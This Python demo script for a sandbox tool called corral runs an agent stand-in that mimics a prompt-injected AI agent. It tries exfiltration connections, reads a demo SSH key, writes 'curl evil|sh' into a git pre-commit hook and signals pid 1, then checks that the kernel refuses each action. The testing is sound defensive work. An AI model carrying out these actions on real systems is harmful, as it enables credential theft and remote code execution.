"""`make demo`: a sandboxed agent stand-in tries what a prompt-injected agent
would, against a running corrald, and the kernel says no.

Exits non-zero if any forbidden action got through."""
from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time

from corral.client.connection import Client, CorralError
from corral.client.doctor import render, report

AGENT = textwrap.dedent(r"""
    import errno, json, os, socket, sys
    allowed, forbidden, secret, project = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
    def attempt(what, fn):
        try:
            fn()
            print(json.dumps({"what": what, "result": "allowed"}), flush=True)
        except OSError as e:
            print(json.dumps({"what": what, "result": errno.errorcode.get(e.errno, str(e.errno))}), flush=True)
    def connect(port, host="127.0.0.1", fam=socket.AF_INET):
        s = socket.socket(fam); s.settimeout(3); s.connect((host, port)); s.close()
    def udp(port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"exfil", ("127.0.0.1", port))
    attempt(f"connect to the allowed service 127.0.0.1:{allowed}", lambda: connect(allowed))
    attempt(f"connect to an unknown host 127.0.0.1:{forbidden} (exfiltration)", lambda: connect(forbidden))
    attempt(f"same, via IPv4-mapped IPv6 ::ffff:127.0.0.1:{forbidden}",
            lambda: connect(forbidden, "::ffff:127.0.0.1", socket.AF_INET6))
    attempt(f"UDP datagram to 127.0.0.1:{forbidden}", lambda: udp(forbidden))
    attempt(f"read the secret {secret}", lambda: open(secret).read())
    attempt("write the project's .git/hooks/pre-commit",
            lambda: open(os.path.join(project, ".git/hooks/pre-commit"), "w").write("curl evil|sh"))
    attempt("write a file in the project (allowed)",
            lambda: open(os.path.join(project, "src", "notes.txt"), "w").write("ok"))
    attempt("signal a process outside the session (pid 1)", lambda: os.kill(1, 0))
""")

EXPECT_ALLOWED = ("connect to the allowed service", "write a file in the project")


def main() -> int:
    print("== corral doctor ==")
    print(render(report()))
    try:
        Client(timeout=5).close()
    except CorralError as e:
        print(f"\ncorral demo: {e.message}", file=sys.stderr)
        return 1

    work = tempfile.mkdtemp(prefix="corral-demo-")
    os.chmod(work, 0o755)
    project = os.path.join(work, "project")
    os.makedirs(os.path.join(project, ".git", "hooks"))
    os.makedirs(os.path.join(project, "src"))
    secret_dir = os.path.join(work, "home", ".ssh")
    os.makedirs(secret_dir)
    secret = os.path.join(secret_dir, "id_ed25519")
    with open(secret, "w") as fh:
        fh.write("-----BEGIN OPENSSH PRIVATE KEY----- (demo)\n")
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    allowed = srv.getsockname()[1]
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    forbidden = probe.getsockname()[1]
    probe.close()
    agent = os.path.join(work, "agent.py")
    with open(agent, "w") as fh:
        fh.write(AGENT)

    corral = shutil.which("corral") or os.path.join(os.path.dirname(sys.executable), "corral")
    cmd = [corral, "run", "-v", "--allow-net", f"127.0.0.1:{allowed}",
           "--allow-write", project, "--deny-write", os.path.join(project, ".git", "hooks"),
           "--deny-read", secret_dir, "--",
           sys.executable, agent, str(allowed), str(forbidden), secret, project]
    print("\n== a sandboxed agent tries its luck ==")
    print("$ corral run --allow-net 127.0.0.1:%d --allow-write PROJECT --deny-write PROJECT/.git/hooks "
          "--deny-read HOME/.ssh -- python agent.py" % allowed)
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
    srv.close()
    sid = None
    for line in p.stderr.splitlines():
        if line.startswith("corral: session "):
            sid = line.split()[2].rstrip(":")
        else:
            print(line, file=sys.stderr)
    bad = []
    for line in p.stdout.splitlines():
        row = json.loads(line)
        ok_expected = row["what"].startswith(EXPECT_ALLOWED)
        verdict = "allowed" if row["result"] == "allowed" else f"refused ({row['result']})"
        flag = "ok " if (row["result"] == "allowed") == ok_expected else "BAD"
        if flag == "BAD":
            bad.append(row["what"])
        print(f"  [{flag}] {row['what']}: {verdict}")
    if p.returncode != 0 or not p.stdout:
        print(f"corral demo: the sandboxed command failed (exit {p.returncode})", file=sys.stderr)
        return 1
    print(f"\n== the audit log for session {sid} (corral log --json --session {sid}) ==")
    time.sleep(0.5)
    log = subprocess.run([corral, "log", "--json", "--session", sid or "-"], capture_output=True,
                         text=True)
    for line in log.stdout.splitlines():
        rec = json.loads(line)
        if rec.get("verdict") == "deny" or rec.get("op") in ("start", "end"):
            print("  " + json.dumps({k: rec.get(k) for k in
                                     ("kind", "op", "verdict", "target", "rule", "comm", "pid")}))
    shutil.rmtree(work, ignore_errors=True)
    if bad:
        print(f"\ncorral demo: FAILED, not refused: {bad}", file=sys.stderr)
        return 1
    print("\ncorral demo: every forbidden action was refused by the kernel.")
    return 0


if __name__ == "__main__":
    sys.exit(main())
